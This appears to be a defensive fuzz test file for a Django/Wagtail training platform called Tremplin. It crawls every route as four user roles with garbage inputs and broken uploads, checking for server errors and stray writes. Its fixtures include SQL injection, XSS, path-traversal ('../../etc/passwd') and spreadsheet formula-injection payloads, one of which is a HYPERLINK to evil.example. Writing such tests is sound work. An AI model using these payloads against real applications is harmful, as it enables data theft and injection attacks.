"""No request a person can make answers with a server error, and a refused request writes nothing.

A crawler over every URL pattern of Tremplin (``lms``, ``courses``, ``competences``; the LRS under ``/xapi/``
has its own tests): each is requested by an anonymous visitor, a learner, an HR manager and a superuser,
plainly and with garbage in its query string and in the fields of its forms (text with NUL characters, which
PostgreSQL refuses, very long strings, negative and huge numbers, impossible dates, digits that are not ASCII,
ids of another collectivity or of nothing). Uploads and imports get broken files. The rule checked: a status
below 500, and no row written by a request that was refused (4xx).
"""

import base64
import contextlib
import copy
import io
import json
import uuid
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlencode, urlsplit

import pytest
from django.apps import apps
from django.contrib.auth import get_user_model
from django.db import connection, transaction
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from competences.exchange.case import identifier
from competences.models import Competence, Framework, JobProfile
from courses.models import CoursePage, LessonPage
from lms.analytics.tasks import rebuild_collectivity_snapshot
from lms.dashboards.panels import PANELS
from lms.demo.services import build_catalogue
from lms.models import AggregateSharing, AuditLogEntry, Collectivity, Enrolment, Membership, Service
from lms.services.organisations import add_membership
from tests.conftest import CONTENT, _wagtail_root, make_user
from tests.lms.tenancy.conftest import populate

pytestmark = pytest.mark.django_db

OUR_APPS = ("lms", "courses", "competences")
#: Modules whose views are someone else's: the LRS (its own tests) and what Django and Wagtail ship.
NOT_OURS = ("lms.xapi.",)

#: Values a field or a parameter may receive from a careless or a malicious person.
GARBAGE = [
    "\x00",
    "a\x00b",
    "x" * 5000,
    "-1",
    "0",
    "99999999999999999999",
    "-99999999999999999999",
    "²",
    "١٢",
    "2026-02-30",
    "0000-00-00",
    "9999-99-99T99:99",
    "1e308",
    "nan",
    '=HYPERLINK("http://evil")',
    "' OR 1=1 --",
    "<script>alert(1)</script>",
    "../../etc/passwd",
    " ",
    "",
    "ÿ\ufeff",
]

QUERY_GARBAGE = [value[:300] for value in GARBAGE]

#: Query parameters the views read, each given every garbage value.
QUERY_PARAMS = [
    "collectivity",
    "period",
    "population",
    "service",
    "job_profile",
    "course",
    "export",
    "competence",
    "level",
    "q",
    "p",
    "ordering",
    "format",
    "next",
    "kind",
    "role",
    "category",
    "filiere",
    "statut",
    "action",
    "status",
    "language",
    "framework",
    "retired",
    "locale",
]


# The dataset ---------------------------------------------------------------------------------------------


CRAWL_CONTENT = copy.deepcopy(CONTENT)
_course = CRAWL_CONTENT["tracks"][0]["courses"][0]
_course["lessons"][0]["self_assessment"] = ["before", "after"]
_course["lessons"][1]["quiz"]["max_attempts"] = 3
_course["lessons"][1]["quiz"]["questions"] += [
    {"prompt": "Vrai ?", "kind": "true_false", "statement_is_true": True},
    {
        "prompt": "Dans l'ordre",
        "kind": "ordering",
        "choices": [{"text": "un"}, {"text": "deux"}, {"text": "trois"}],
    },
    {
        "prompt": "Associer",
        "kind": "matching",
        "pairs": [{"left": "a", "right": "1"}, {"left": "b", "right": "2"}],
    },
    {"prompt": "Le sigle ?", "kind": "short_text", "accepted_answers": ["RGPD"]},
]
CRAWL_CONTENT["tracks"].append(
    {
        "slug": "public",
        "title": "Grand public",
        "audience": "public",
        "intro": "<p>Ouvert.</p>",
        "courses": [
            {
                "slug": "ouvert",
                "title": "Ouvert à tous",
                "summary": "Sans compte.",
                "duration_minutes": 10,
                "competences": [{"code": "1.1", "level": 1}],
                "lessons": [
                    {
                        "slug": "ouverte",
                        "title": "Leçon ouverte",
                        "body_html": "<p>Libre.</p>",
                        "quiz": copy.deepcopy(_course["lessons"][1]["quiz"]),
                        "self_assessment": "before",
                    }
                ],
            }
        ],
    }
)
CRAWL_CONTENT["tracks"][1]["courses"][0]["lessons"][0]["slug"] = "ouverte"


@dataclass
class World:
    superuser: object
    hr: object
    learner: object
    collectivity: Collectivity
    other: Collectivity
    epci: Collectivity
    service: Service
    other_service: Service
    job_profile: JobProfile
    other_job_profile: JobProfile
    framework: Framework
    competence: Competence
    enrolment: Enrolment
    other_enrolment: Enrolment
    sharing: AggregateSharing
    audit: AuditLogEntry


@pytest.fixture
def world(frameworks, settings) -> World:
    settings.LMS_MIN_GROUP_SIZE = 1  # so that the dashboards draw their tables over this small dataset
    _wagtail_root()
    build_catalogue(CRAWL_CONTENT)
    lesson = LessonPage.objects.get(slug="bases")
    lesson.body.append(("external_activity", {"title": "Jeu", "description": "", "url": "/jeu/index.html"}))
    lesson.save_revision().publish()
    competence = Competence.objects.get(code="4.2", framework__slug="crcn")
    alpha = populate("Ville Alpha", "alpha-ville", competence)
    beta = populate("Bourg Zebulon", "zebulon-bourg", competence)
    epci = Collectivity.objects.create(name="Agglo", slug="agglo", kind=Collectivity.Kind.EPCI)
    epci.members.add(alpha.collectivity)
    sharing = AggregateSharing.objects.create(member=alpha.collectivity, grouping=epci)
    make_user("rh-agglo", epci, Membership.Role.HR_MANAGER)
    job_profile = JobProfile.objects.create(
        name="@SUM(1+1)\x01 Agent d'accueil", slug="accueil", collectivity=alpha.collectivity
    )
    other_job_profile = JobProfile.objects.create(
        name="Secrétaire", slug="secretaire", collectivity=beta.collectivity
    )
    # Names people type, which exports must keep as text (a formula, characters an XLSX cannot hold).
    alpha.service.name = '=HYPERLINK("http://evil.example/?x="&A1;"Accueil")\x0b [x]: /?*'
    alpha.service.save()
    membership = Membership.objects.get(user=alpha.agent, collectivity=alpha.collectivity)
    membership.job_profile = job_profile
    membership.save()
    elected = make_user("elu-alpha")
    add_membership(elected, alpha.collectivity, Membership.Role.ELECTED_OFFICIAL)
    rgpd = CoursePage.objects.get(slug="rgpd")
    enrolment = Enrolment.objects.create(
        user=alpha.agent,
        course=rgpd,
        collectivity=alpha.collectivity,
        enrolled_at="2026-01-01T10:00:00Z",
        completed_at="2026-01-02T10:00:00Z",
    )
    other_enrolment = Enrolment.objects.get(user=beta.agent)
    superuser = get_user_model().objects.create_superuser("admin", "admin@example.org", "x" * 16)
    for collectivity in (alpha.collectivity, beta.collectivity, epci):
        rebuild_collectivity_snapshot(collectivity.pk)
    return World(
        superuser=superuser,
        hr=alpha.hr,
        learner=alpha.agent,
        collectivity=alpha.collectivity,
        other=beta.collectivity,
        epci=epci,
        service=alpha.service,
        other_service=beta.service,
        job_profile=job_profile,
        other_job_profile=other_job_profile,
        framework=competence.framework,
        competence=competence,
        enrolment=enrolment,
        other_enrolment=other_enrolment,
        sharing=sharing,
        audit=AuditLogEntry.objects.filter(subject_label__isnull=False).first()
        or AuditLogEntry.objects.first(),
    )


def clients(world: World) -> dict[str, Client]:
    """A client per role, signed in."""
    found = {"anonymous": Client()}
    for role, user in (("learner", world.learner), ("hr", world.hr), ("superuser", world.superuser)):
        found[role] = Client(raise_request_exception=True)
        found[role].force_login(user)
    return found


# The URL patterns ----------------------------------------------------------------------------------------


def our_patterns() -> list[tuple[str, str]]:
    """``(name, route)`` of every URL pattern whose view is Tremplin's (outside the LRS)."""
    found = []

    def walk(resolver, prefix, namespace):
        for pattern in resolver.url_patterns:
            if isinstance(pattern, URLResolver):
                inner = ":".join(filter(None, [namespace, pattern.namespace]))
                walk(pattern, prefix + str(pattern.pattern), inner)
                continue
            assert isinstance(pattern, URLPattern)
            view = getattr(pattern.callback, "view_class", pattern.callback)
            module = view.__module__
            name = ":".join(filter(None, [namespace, pattern.name]))
            ours = module.split(".")[0] in OUR_APPS or name.split(":")[0].startswith("lms")
            if ours and not module.startswith(NOT_OURS) and not name.startswith("xapi"):
                found.append((name, prefix + str(pattern.pattern)))

    walk(get_resolver(), "", "")
    return found


#: Patterns served by Django or Wagtail that take the input of our forms or models all the same.
EXTRA_URLS = {
    "set_language": lambda w: [reverse("set_language")],
    "login": lambda w: [reverse("login"), reverse("wagtailadmin_login")],
    "password_reset": lambda w: [reverse("password_reset")],
    "wagtail_serve": lambda w: [p.url for p in _live_pages() if p.url] + ["/nulle-part/", "/%00/"],
    "page_editor": lambda w: _page_editor_urls(),
}


def _live_pages():
    from wagtail.models import Page

    return [page.specific for page in Page.objects.live().filter(depth__gt=1).order_by("path")]


def _page_editor_urls():
    urls = []
    for page in _live_pages():
        urls.append(reverse("wagtailadmin_pages:edit", args=[page.pk]))
    course = CoursePage.objects.get(slug="rgpd")
    urls.append(reverse("wagtailadmin_pages:add", args=["lms_courses", "lessonpage", course.pk]))
    urls.append(reverse("wagtailadmin_pages:add", args=["lms_courses", "coursepage", course.get_parent().pk]))
    return urls


def _viewset(prefix, own, other=None):
    """The URLs of a model viewset's pattern for an object of the viewer's, another's, and none."""

    def urls(name, w):
        action = name.split(":")[1]
        pks = [own(w).pk] + ([other(w).pk] if other else []) + [987654321]
        base = f"{prefix}:{action}"
        if action in ("index", "index_results", "add"):
            return [reverse(base)]
        return [reverse(base, args=[pk]) for pk in pks]

    return urls


UUID_NONE = uuid.UUID(int=7)

#: How to fill the parameters of each pattern from the dataset: name or namespace → ``(name, world) -> URLs``.
PARAMETERS = {
    "lms_dashboard": lambda n, w: [
        *[reverse(n, args=[p]) for p in [*PANELS, "nope", "x" * 300]],
        *[
            reverse(n, args=[p]) + "?" + urlencode({"export": export, **query})
            for p in PANELS
            for export in ("csv", "xlsx")
            for query in ({}, {"service": w.service.pk}, {"job_profile": w.job_profile.pk, "period": "3"})
        ],
        reverse(n, args=["overview"]) + "?" + urlencode({"collectivity": w.epci.slug}),
        reverse(n, args=["consolidated"]) + "?" + urlencode({"collectivity": w.epci.slug, "export": "xlsx"}),
        reverse(n, args=["levels"]) + "?" + urlencode({"collectivity": w.other.slug}),
    ],
    "lms_dashboard_competences": lambda n, w: [reverse(n)],
    "lms_dashboard_learners": lambda n, w: (
        [
            reverse(n) + "?" + urlencode({"competence": w.competence.pk, "level": 3, **query})
            for query in (
                {},
                {"collectivity": w.collectivity.slug},
                {"collectivity": w.other.slug},
                {"service": w.service.pk},
                {"service": w.other_service.pk},
                {"service": "²"},
                {"job_profile": "²"},
                {"job_profile": w.job_profile.pk, "population": "agent"},
            )
        ]
        + [reverse(n)]
    ),
    "lms_dashboard_rules": lambda n, w: [reverse(n)],
    "lms_import_pix": lambda n, w: [reverse(n)],
    "lms_onboarding_import": lambda n, w: [reverse(n)],
    "lms_courses_assign": lambda n, w: [reverse(n)],
    "lms_competences_tree": lambda n, w: [reverse(n, args=[w.framework.pk]), reverse(n, args=[987654321])],
    "lms_competences_export": lambda n, w: [reverse(n, args=[w.framework.pk]), reverse(n, args=[987654321])],
    "lms_competences_import": lambda n, w: [reverse(n)],
    "lms_competences_new_version": lambda n, w: [reverse(n, args=[w.framework.pk])],
    "lms_competences_move": lambda n, w: [
        reverse(n, args=[kind, pk, direction])
        for kind, pk, direction in [
            ("competence", w.competence.pk, "up"),
            ("area", w.competence.area_id, "down"),
            ("nope", w.competence.pk, "sideways"),
            ("competence", 987654321, "up"),
        ]
    ],
    "lms_collectivity": _viewset("lms_collectivity", lambda w: w.collectivity, lambda w: w.other),
    "lms_service": _viewset("lms_service", lambda w: w.service, lambda w: w.other_service),
    "lms_membership": _viewset(
        "lms_membership",
        lambda w: Membership.objects.get(user=w.learner),
        lambda w: Membership.objects.filter(collectivity=w.other).first(),
    ),
    "lms_sharing": _viewset("lms_sharing", lambda w: w.sharing),
    "lms_audit": _viewset(
        "lms_audit",
        lambda w: AuditLogEntry.objects.filter(actor=w.hr).first(),
        lambda w: AuditLogEntry.objects.exclude(actor=w.hr).first(),
    ),
    "lms_jobprofile": _viewset("lms_jobprofile", lambda w: w.job_profile, lambda w: w.other_job_profile),
    "lms_competences_framework": _viewset("lms_competences_framework", lambda w: w.framework),
    "lms_competences_competence": _viewset("lms_competences_competence", lambda w: w.competence),
    "lms_competences_jobprofile": _viewset(
        "lms_competences_jobprofile", lambda w: w.job_profile, lambda w: w.other_job_profile
    ),
    "lms_case:documents": lambda n, w: [reverse(n)],
    "lms_case:package": lambda n, w: [
        reverse(n, args=[identifier(w.framework.uri)]),
        reverse(n, args=[UUID_NONE]),
    ],
    "lms_case:item": lambda n, w: [
        reverse(n, args=[identifier(w.competence.uri)]),
        reverse(n, args=[UUID_NONE]),
    ],
    "lms:my_learning": lambda n, w: [reverse(n)],
    "lms:my_data": lambda n, w: [reverse(n)],
    "lms:my_data_export": lambda n, w: [reverse(n, args=[f]) for f in ("json", "csv", "xml", "x" * 300)],
    "lms:erase_account": lambda n, w: [reverse(n)],
    "lms:attestation": lambda n, w: [
        reverse(n, args=[pk])
        for pk in (w.enrolment.pk, w.other_enrolment.pk, 987654321, 99999999999999999999)
    ],
    "lms:accessibility": lambda n, w: [reverse(n)],
    "lms:privacy": lambda n, w: [reverse(n)],
    "lms:signup": lambda n, w: [reverse(n)],
    "lms:signup_confirm": lambda n, w: [
        reverse(n, args=[uid, token])
        for uid, token in [
            ("MQ", "abc-def"),
            ("%%%", "x"),
            ("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "1-1"),
            ("_w", "x"),
        ]
    ],
    "lms:invitation": lambda n, w: [
        reverse(n, args=[uid, token])
        for uid, token in [("MQ", "abc-def"), ("_w", "set-password"), ("zzzz", "x")]
    ],
    "lms:invitation_done": lambda n, w: [reverse(n)],
    "lms:oidc_login": lambda n, w: [reverse(n, args=[p]) for p in ("proconnect", "franceconnect", "nope")],
    "lms:oidc_callback": lambda n, w: [reverse(n, args=[p]) for p in ("proconnect", "franceconnect", "nope")],
}


def _urls_for(name: str, world: World) -> list[str]:
    key = name if name in PARAMETERS else name.split(":")[0]
    return PARAMETERS[key](name, world)


def test_every_url_pattern_of_ours_is_crawled():
    names = {name for name, _route in our_patterns()}
    missing = sorted(n for n in names if n not in PARAMETERS and n.split(":")[0] not in PARAMETERS)
    assert names and not missing


# Forms in pages ------------------------------------------------------------------------------------------


class FormParser(HTMLParser):
    """The forms of a page: ``[{"action", "method", "fields": [(name, type, value, options)]}]``."""

    def __init__(self):
        super().__init__()
        self.forms, self._form, self._select = [], None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form":
            self._form = {
                "action": attrs.get("action") or "",
                "method": (attrs.get("method") or "get").lower(),
                "fields": [],
                "multipart": "multipart" in (attrs.get("enctype") or ""),
            }
            self.forms.append(self._form)
        elif self._form is None or not attrs.get("name"):
            return
        elif tag in ("input", "textarea"):
            self._form["fields"].append(
                [attrs["name"], attrs.get("type", tag), attrs.get("value") or "", attrs.get("disabled")]
            )
        elif tag == "select":
            self._select = [attrs["name"], "select", "", attrs.get("disabled"), []]
            self._form["fields"].append(self._select)

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        pass


def forms_of(response) -> list[dict]:
    if "html" not in response.get("Content-Type", ""):
        return []
    parser = FormParser()
    parser.feed(response.content.decode("utf-8", "replace"))
    return [form for form in parser.forms if form["method"] == "post"]


def _base_data(form) -> dict:
    data = {}
    for name, kind, value, *_ in form["fields"]:
        if kind == "file" or name == "csrfmiddlewaretoken":
            continue
        data.setdefault(name, value)
    return data


POST_VARIANTS = ["a\x00b", "x" * 5000, "99999999999999999999", "-1", "2026-02-30", "²"]


def _mutations(form):
    """Garbage bodies for a form: every visible field at once with one value, then mixed values, then hidden
    fields too, then nothing."""
    base = _base_data(form)
    visible = [n for n, kind, *_ in form["fields"] if kind not in ("hidden", "file", "submit")]
    for value in POST_VARIANTS[:3]:
        yield {**base, **{name: value for name in visible}}
    for shift in (3, 4):
        yield {**base, **{n: POST_VARIANTS[(i + shift) % len(POST_VARIANTS)] for i, n in enumerate(visible)}}
    yield {name: "\x00" for name in base}
    yield {}


# The crawl -----------------------------------------------------------------------------------------------


def _table_counts() -> tuple:
    """The number of rows of every table of ours, in one query."""
    tables = [
        model._meta.db_table
        for label in ("lms", "lms_courses", "lms_competences")
        for model in apps.get_app_config(label).get_models()
        if model._meta.model_name not in ("loginfailure", "auditlogentry")
    ]
    with connection.cursor() as cursor:
        cursor.execute(" UNION ALL ".join(f"SELECT '{t}', COUNT(*) FROM \"{t}\"" for t in tables))
        return tuple(cursor.fetchall())


@dataclass
class Crawl:
    client: Client
    role: str
    failures: list = field(default_factory=list)
    writes: list = field(default_factory=list)
    posted: set = field(default_factory=set)

    def request(self, method, url, data=None, **extra):
        before = _table_counts() if method == "post" else None
        try:
            with transaction.atomic():
                response = getattr(self.client, method)(url, data or {}, **extra)
        except Exception as error:  # noqa: BLE001 — every exception is a finding
            self.failures.append(
                (self.role, method, url, _short(data), f"{type(error).__name__}: {error}"[:300])
            )
            return None
        if response.status_code >= 500:
            self.failures.append((self.role, method, url, _short(data), response.status_code))
        elif before is not None and 400 <= response.status_code < 500:
            after = _table_counts()
            if after != before:
                changed = [(b, a) for b, a in zip(before, after, strict=True) if b != a]
                self.writes.append((self.role, url, _short(data), response.status_code, changed))
        return response


def _short(data):
    if not data:
        return data
    return {k: (v[:20] + "…" if isinstance(v, str) and len(v) > 20 else v) for k, v in list(data.items())[:6]}


#: Wagtail's admin login sends a signed-in person to ``next`` through ``redirect()``, which reads a bare word
#: as the name of a URL pattern (NoReverseMatch, a 500): Wagtail's code, not ours.
UPSTREAM_IGNORED_PARAMS = {"/admin/login/": {"next"}}
#: Wagtail's page editor posts StreamField and rich text widgets a crawler cannot fill; GET only.
GET_ONLY = ("/admin/pages/",)


def _query_variants(url, role):
    ignored = UPSTREAM_IGNORED_PARAMS.get(url, set())
    params = [name for name in QUERY_PARAMS if name not in ignored]
    yield {}
    if url.startswith(GET_ONLY) or (url.startswith("/admin/") and role in ("anonymous", "learner")):
        # Wagtail's page editor reads no parameter of ours; the admin turns away who has no access to it.
        yield {name: QUERY_GARBAGE[i % len(QUERY_GARBAGE)] for i, name in enumerate(params)}
        return
    for shift in (0, 1, 2):  # each parameter a different value of GARBAGE, another one each time
        yield {name: QUERY_GARBAGE[(i + shift * 7) % len(QUERY_GARBAGE)] for i, name in enumerate(params)}
    yield {name: ["all", "3", "\x00"] for name in params}  # repeated parameters


def crawl(world: World, roles, *, posts=True) -> Crawl:
    results = Crawl(client=None, role="")
    everything = [url for name, _route in our_patterns() for url in _urls_for(name, world)]
    everything += [url for make in EXTRA_URLS.values() for url in make(world)]
    for role, client in clients(world).items():
        if role not in roles:
            continue
        crawler = Crawl(client=client, role=role)
        for url in everything:
            response = None
            for query in _query_variants(url, role):
                got = crawler.request("get", url, query)
                response = response or got
            if url.startswith(GET_ONLY):
                continue
            if posts and response is not None and response.status_code == 200:
                for form in forms_of(response):
                    action = form["action"] or url
                    signature = (action, tuple(sorted(name for name, *_ in form["fields"])))
                    if signature in crawler.posted:
                        continue  # the same form on another page (the language switch)
                    crawler.posted.add(signature)
                    if urlsplit(action).netloc or action.startswith(
                        ("/xapi", "/compte/logout", "/admin/logout")
                    ):
                        continue
                    for body in _mutations(form):
                        crawler.request("post", action, body)
            crawler.request("post", url, {name: "a\x00b" for name in QUERY_PARAMS})
        results.failures += crawler.failures
        results.writes += crawler.writes
    return results


def test_no_request_answers_with_a_server_error_nor_writes_when_refused(world):
    result = crawl(world, {"anonymous", "learner", "hr", "superuser"})
    report = "\n".join(repr(row) for row in [*result.failures, *result.writes])
    assert (result.failures, result.writes) == ([], []), report


# Uploads and imports -------------------------------------------------------------------------------------

PIX_SAMPLE = (Path(__file__).resolve().parent / "fixtures" / "pix_collecte_profils.csv").read_bytes()
AGENTS_CSV = (
    "prénom;nom;courriel;service;profil_de_poste;rôle;catégorie;filière;statut\n"
    "Ada;Lovelace;ada@alpha.fr;Direction des finances;;agent;A;administrative;titulaire\n"
)


def _pix_with(cell: str) -> bytes:
    """The Pix sample with ``cell`` in the last name, first name and campaign name of its first row."""
    lines = PIX_SAMPLE.decode("utf-8-sig").split("\n")
    cells = lines[1].split(";")
    cells[3] = cells[4] = cells[5] = '"' + cell.replace('"', '""') + '"'
    lines[1] = ";".join(cells)
    return "\n".join(lines).encode("utf-8-sig", "surrogatepass")


def _agents_with(cell: str, column: int) -> bytes:
    cells = AGENTS_CSV.split("\n")[1].split(";")
    cells[column] = '"' + cell.replace('"', '""') + '"'
    return (AGENTS_CSV.split("\n")[0] + "\n" + ";".join(cells) + "\n").encode("utf-8", "surrogatepass")


#: Broken files every upload receives.
BROKEN_FILES = {
    "empty": b"",
    "bom only": "\ufeff".encode(),
    "not UTF-8": "nom;prénom\nLéa;Zoé\n".encode("utf-16"),
    "latin-1": "nom;prénom;courriel\nLéa;Zoé;lea@alpha.fr\n".encode("latin-1"),
    "NUL bytes": b"\x00\x00\x00;\x00\n\x00",
    "binary": bytes(range(256)) * 4,
    "wrong columns": b"a;b;c\n1;2;3\n",
    "one column": b"email\n\n\n",
    "huge field": b'"' + b"x" * 200_000 + b'";b\n',
    "unclosed quote": b'"email;nom\nada@alpha.fr;"Ada\n',
    "JSON": b'{"CFDocument": null}',
    "formula cells": b"email;nom\n=cmd|' /C calc'!A0;@SUM(1+1)\n",
    "pix NUL in names": _pix_with("Du\x00rand"),
    "pix huge names": _pix_with("x" * 5000),
    "pix control characters": _pix_with('=HYPERLINK("x")\x0b\x01'),
    "agents NUL name": _agents_with("Ad\x00a", 0),
    "agents NUL email": _agents_with("ada\x00@alpha.fr", 2),
    "agents NUL service": _agents_with("Fin\x00ances", 3),
    "agents long name": _agents_with("A" * 400, 0),
    "agents long email": _agents_with("a" * 200 + "@alpha.fr", 2),
    "agents long service": _agents_with("S" * 400, 3),
    "agents unknown role": _agents_with("pape", 5),
    "agents formula service": _agents_with("=1+1", 3),
}


def _upload(name: str, content: bytes):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, content, content_type="text/csv")


@pytest.fixture
def uploaders(frameworks):
    """An HR manager's client and a superuser's, over one populated collectivity."""
    _wagtail_root()
    tenant = populate(
        "Ville Alpha", "alpha-ville", Competence.objects.get(code="4.2", framework__slug="crcn")
    )
    hr = Client(raise_request_exception=True)
    hr.force_login(tenant.hr)
    admin = Client(raise_request_exception=True)
    admin.force_login(get_user_model().objects.create_superuser("admin", "admin@example.org", "x" * 16))
    return tenant.collectivity, hr, admin


def _refusals(post, kinds=BROKEN_FILES) -> list:
    """Post each broken file with ``post(content) -> (responses, refused)``: what answered with a 5xx, raised,
    or wrote rows while refused."""
    found = []
    for kind, content in kinds.items():
        before = _table_counts()
        try:
            with transaction.atomic():
                responses, refused = post(content)
        except Exception as error:  # noqa: BLE001 — every exception is a finding
            found.append((kind, f"{type(error).__name__}: {error}"[:200]))
            continue
        if max(r.status_code for r in responses) >= 500:
            found.append((kind, [r.status_code for r in responses]))
        elif refused and _table_counts() != before:
            found.append((kind, "refused, yet rows were written"))
    return found


def test_no_broken_pix_file_answers_with_a_server_error_nor_writes(uploaders):
    collectivity, hr, _admin = uploaders

    def post(content):
        response = hr.post(
            reverse("lms_import_pix"), {"collectivity": collectivity.pk, "file": _upload("pix.csv", content)}
        )
        return [response], response.status_code == 400

    assert _refusals(post) == []


def test_no_broken_agents_file_answers_with_a_server_error_nor_writes(uploaders):
    collectivity, hr, _admin = uploaders
    url = reverse("lms_onboarding_import")

    def post(content):
        preview = hr.post(url, {"collectivity": collectivity.pk, "file": _upload("agents.csv", content)})
        digest = (preview.context or {}).get("digest")
        confirmed = hr.post(url, {"confirm": "1", "digest": digest or "x"})
        return [preview, confirmed], digest is None or confirmed.status_code == 400

    assert _refusals(post) == []


def test_no_broken_framework_file_answers_with_a_server_error_nor_writes(uploaders):
    _collectivity, _hr, admin = uploaders
    url = reverse("lms_competences_import")

    def post(content):
        responses = []
        for fmt in ("", "case", "csv", "moodle"):
            responses.append(admin.post(url, {"file": _upload("framework.csv", content), "format": fmt}))
            encoded = base64.b64encode(content).decode()
            responses.append(admin.post(url, {"content": encoded, "format": fmt, "confirm": "1"}))
        return responses, True

    assert _refusals(post) == []


# Framework files, mutated ----------------------------------------------------------------------------------

JSON_GARBAGE = st.sampled_from(
    [None, 0, -1, 10**20, 1.5, True, "", "\x00", "a\x00b", "\ud800", "x" * 600, [], {}, [None], {"uri": None}]
)


class _Rollback(Exception):
    pass


def _paths(node, prefix=()):
    """Every path to a value of a JSON document."""
    yield prefix
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _paths(value, (*prefix, index))


def _replace(document, path, value):
    if not path:
        return value
    parent = document
    for step in path[:-1]:
        parent = parent[step]
    parent[path[-1]] = value
    return document


def _import_refused_or_done(text: str, fmt: str) -> None:
    """Preview then import ``text``; anything but a clean refusal or a clean import raises. Rolled back."""
    from competences.exchange import ImportRejected, import_framework, preview_import

    try:
        with transaction.atomic():
            preview = preview_import(text, fmt)
            if not preview.errors:
                with contextlib.suppress(ImportRejected):
                    import_framework(text, fmt)
            raise _Rollback
    except _Rollback:
        pass


@pytest.fixture
def sample_framework(db):
    from competences.services import save_framework
    from tests.competences.conftest import sample_data

    return save_framework(sample_data())


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_a_mutated_case_package_is_refused_or_imported_never_a_server_error(sample_framework, data):
    from competences.exchange import export_framework

    document = json.loads(export_framework(sample_framework, "case"))
    paths = list(_paths(document))
    for _ in range(data.draw(st.integers(1, 3))):
        path = data.draw(st.sampled_from(paths))
        try:
            document = _replace(document, path, data.draw(JSON_GARBAGE))
        except (KeyError, IndexError, TypeError):
            continue  # the path went away with an earlier replacement
    _import_refused_or_done(json.dumps(document), "case")


CELL_GARBAGE = st.sampled_from(
    [
        "",
        "\x00",
        "a\x00b",
        "x" * 600,
        "-1",
        "99999999999999999999",
        "²",
        "=1+1",
        '"',
        "\r\n",
        ";",
        ",",
        "\ufeff",
    ]
)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(fmt=st.sampled_from(["csv", "moodle"]), data=st.data())
def test_a_mutated_framework_csv_is_refused_or_imported_never_a_server_error(sample_framework, fmt, data):
    import csv

    from competences.exchange import export_framework

    rows = list(csv.reader(io.StringIO(export_framework(sample_framework, fmt))))
    for _ in range(data.draw(st.integers(1, 3))):
        row = data.draw(st.integers(0, len(rows) - 1))
        if rows[row]:
            rows[row][data.draw(st.integers(0, len(rows[row]) - 1))] = data.draw(CELL_GARBAGE)
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    _import_refused_or_done(buffer.getvalue(), fmt)


# Named regressions -----------------------------------------------------------------------------------------


def test_learners_drilldown_with_a_service_in_superscript_digits_is_a_404(uploaders):
    collectivity, hr, _admin = uploaders
    competence = Competence.objects.get(code="4.2", framework__slug="crcn")
    query = {"collectivity": collectivity.slug, "competence": competence.pk, "level": 3, "service": "²"}
    assert hr.get(reverse("lms_dashboard_learners"), query).status_code == 404


def test_memberships_csv_export_writes_a_name_that_looks_like_a_formula_as_text(uploaders):
    collectivity, hr, _admin = uploaders
    Service.objects.filter(collectivity=collectivity).update(name="=cmd|' /C calc'!A0")
    response = hr.get(reverse("lms_membership:index"), {"export": "csv"})
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=cmd|' /C calc'!A0" in content and "\n=cmd" not in content and ",=cmd" not in content


class _FakeOidcBackend:
    config = {"audience": "public"}

    def __init__(self, user):
        self.user = user

    def authorization_redirect(self, request, redirect_uri):
        from django.http import HttpResponseRedirect

        return HttpResponseRedirect("https://provider.example/authorize")

    def identity_from_callback(self, request):
        return self.user


def test_oidc_sign_in_with_a_bare_word_as_next_lands_on_the_default_page(uploaders, monkeypatch, settings):
    from lms.accounts import oidc
    from lms.services import identity

    settings.LOGIN_REDIRECT_URL = "/mon-parcours/"
    user = get_user_model().objects.get(username="agent-alpha-ville")
    monkeypatch.setattr(oidc, "get_backend", lambda provider: _FakeOidcBackend(user))
    monkeypatch.setattr(identity, "sign_in", lambda found, audience: found)
    client = Client(raise_request_exception=True)
    client.get(reverse("lms:oidc_login", args=["proconnect"]), {"next": "foo"})
    response = client.get(reverse("lms:oidc_callback", args=["proconnect"]))
    assert (response.status_code, response["Location"]) == (302, "/mon-parcours/")
